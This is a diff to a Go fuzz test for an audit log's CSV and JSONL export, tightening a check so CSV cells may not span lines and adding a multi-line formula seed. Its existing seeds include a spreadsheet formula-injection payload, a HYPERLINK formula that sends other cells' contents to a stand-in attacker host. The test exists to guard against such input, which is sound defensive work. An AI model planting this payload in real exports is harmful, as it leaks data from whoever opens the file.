@@ -63,7 +63,8 @@ func FuzzCanonical(f *testing.F) {
 
 // Whatever an export reader is given, it does not panic; what it reads
 // is written back as it was read; fields written are read back; and no
-// cell of a CSV export is unquoted or starts with a formula character.
+// cell of a CSV export is unquoted, spans lines or starts with a formula
+// character.
 func FuzzExport(f *testing.F) {
 	entries, _ := chain(f, 1, 2)
 	for _, format := range []audit.Format{audit.JSONL, audit.CSV} {
@@ -80,6 +81,7 @@ func FuzzExport(f *testing.F) {
 	f.Add("", true, "reason", `=HYPERLINK("https://evil.example/?d="&B2&C2,"details")`)
 	f.Add("", true, "tool", "'@x")
 	f.Add("", true, "note", "\t-1")
+	f.Add("", true, "reason", "fine\n=1+1")
 	f.Fuzz(func(t *testing.T, in string, isCSV bool, name, value string) {
 		format := audit.JSONL
 		if isCSV {
@@ -111,7 +113,7 @@ func FuzzExport(f *testing.F) {
 }
 
 // noFormulas fails the test if a cell of a CSV export starts with a
-// formula character, or is not quoted.
+// formula character, is not quoted, or spans lines.
 func noFormulas(t *testing.T, out string) {
 	t.Helper()
 	for _, cell := range csvCells(t, out) {
@@ -136,6 +138,8 @@ func csvCells(t *testing.T, out string) []string {
 			i++
 		case quoted && c == '"':
 			quoted, start = false, false
+		case quoted && (c == '\n' || c == '\r'):
+			t.Fatalf("CSV export has a cell over several lines at byte %d:\n%s", i, out)
 		case quoted:
 		case start && c == '"':
 			quoted = true
